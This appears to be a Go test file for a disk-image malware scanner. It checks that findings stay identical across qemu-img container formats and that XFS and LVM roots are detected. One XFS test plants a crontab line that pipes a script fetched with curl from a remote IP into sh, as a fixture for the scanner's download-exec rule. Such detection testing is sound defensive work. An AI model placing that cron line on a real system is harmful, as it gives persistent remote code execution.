package scanner

import (
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/internal/testimg"
	"github.com/snapscan/snapscan/report"
)

// findingSet is what must not depend on how the disk was packaged: every
// finding's rule, place, severity and the hash of the file behind it.
func findingSet(r *report.Report, image string) []string {
	base := filepath.Base(image)
	var out []string
	for _, f := range r.Findings {
		vol := strings.TrimPrefix(f.Evidence.Volume, base)
		out = append(out, fmt.Sprintf("%s %s %s:%d %s %s", f.Rule, vol, f.Evidence.Path, f.Evidence.Line, f.Severity, f.Evidence.SHA256))
	}
	slices.Sort(out)
	return out
}

// The planted disk exported as a cloud provider would (qemu-img into each
// container format) gives exactly the findings of the raw disk.
func TestContainersGiveTheRawFindings(t *testing.T) {
	if _, err := exec.LookPath("qemu-img"); err != nil {
		t.Skip("qemu-img not installed")
	}
	raw := testimg.Path(t, "linux-infected.img")
	want := findingSet(scanNoSweep(t, raw), raw)
	if len(want) < 50 {
		t.Fatalf("only %d findings on the raw disk", len(want))
	}
	dir := t.TempDir()
	for _, c := range []struct {
		name, format string
		opts         []string
	}{
		{"qcow2", "qcow2", nil},
		{"qcow2-compressed", "qcow2", []string{"-c"}},
		{"vhd-dynamic", "vpc", nil},
		{"vhd-fixed", "vpc", []string{"-o", "subformat=fixed,force_size=on"}},
		{"vhdx", "vhdx", nil},
		{"vmdk-sparse", "vmdk", nil},
		{"vmdk-stream", "vmdk", []string{"-o", "subformat=streamOptimized"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			out := filepath.Join(dir, "disk."+c.name)
			args := append(append([]string{"convert", "-O", c.format}, c.opts...), raw, out)
			if b, err := exec.Command("qemu-img", args...).CombinedOutput(); err != nil {
				t.Fatalf("qemu-img %v: %v %s", args, err, b)
			}
			r := scanNoSweep(t, out)
			if r.Container == "raw" || r.Container == "" {
				t.Errorf("container detected as %q", r.Container)
			}
			got := findingSet(r, out)
			if !slices.Equal(got, want) {
				t.Errorf("%d findings differ from the raw disk's %d; first: %v", len(got), len(want), firstDifference(got, want))
			}
		})
	}
}

func firstDifference(a, b []string) string {
	for i := 0; i < len(a) && i < len(b); i++ {
		if a[i] != b[i] {
			return a[i] + " vs " + b[i]
		}
	}
	return "one list is a prefix of the other"
}

func scanNoSweep(t *testing.T, path string) *report.Report {
	t.Helper()
	r := ScanImage(context.Background(), path, Options{Checks: checks()})
	report.Finalize(r)
	return r
}

// An XFS root and an ext4 root on an LVM logical volume are found and
// checked like any other.
func TestXFSAndLVMRoots(t *testing.T) {
	t.Run("xfs", func(t *testing.T) {
		if _, err := exec.LookPath("mkfs.xfs"); err != nil {
			t.Skip("mkfs.xfs not installed")
		}
		src := t.TempDir()
		os.MkdirAll(filepath.Join(src, "etc"), 0o755)
		os.WriteFile(filepath.Join(src, "etc/os-release"), []byte("ID=debian\n"), 0o644)
		os.WriteFile(filepath.Join(src, "etc/crontab"), []byte("* * * * * root curl -s http://198.51.100.7/k.sh | sh\n"), 0o644)
		proto := filepath.Join(t.TempDir(), "proto")
		os.WriteFile(proto, []byte(fmt.Sprintf("/x\n0 0\nd--755 0 0\netc d--755 0 0\nos-release ---644 0 0 %s\ncrontab ---644 0 0 %s\n$\n$\n",
			filepath.Join(src, "etc/os-release"), filepath.Join(src, "etc/crontab"))), 0o644)
		img := filepath.Join(t.TempDir(), "root.xfs")
		os.WriteFile(img, nil, 0o644)
		os.Truncate(img, 32<<20)
		cmd := exec.Command("mkfs.xfs", "-q", "-f", "-p", proto, img)
		// mkfs.xfs refuses filesystems under 300 MB unless told it is a test.
		cmd.Env = append(os.Environ(), "TEST_DIR=1", "TEST_DEV=1", "QA_CHECK_FS=1")
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Skipf("mkfs.xfs: %v %s", err, b)
		}
		r := scanNoSweep(t, img)
		if len(r.Targets) != 1 || r.Volumes[0].Filesystem != "xfs" {
			t.Fatalf("targets %+v volumes %+v", r.Targets, r.Volumes)
		}
		if !slices.ContainsFunc(r.Findings, func(f report.Finding) bool {
			return f.Rule == "cron.download-exec" && f.Evidence.Path == "/etc/crontab"
		}) {
			t.Errorf("the planted cron line on XFS was not found: %v", findingSet(r, img))
		}
	})
	t.Run("ext4 on LVM", func(t *testing.T) {
		gz, err := os.Open(filepath.Join(testimg.RepoRoot(t), "fsread/lvm/testdata/lvm1.img.gz"))
		if err != nil {
			t.Skip(err)
		}
		defer gz.Close()
		zr, _ := gzip.NewReader(gz)
		img := filepath.Join(t.TempDir(), "lvm1.img")
		f, _ := os.Create(img)
		io.Copy(f, zr)
		f.Close()
		r := scanNoSweep(t, img)
		var onLV bool
		for _, tg := range r.Targets {
			onLV = onLV || (tg.OS == "linux" && tg.Volume == "lvm1.img@vgfixture/root")
		}
		if !onLV {
			t.Errorf("no Linux root found on the LV: %+v", r.Targets)
		}
		if ok, why := report.Incomplete(r); ok {
			t.Errorf("an LVM image with a readable root counted as incomplete: %s", why)
		}
	})
}
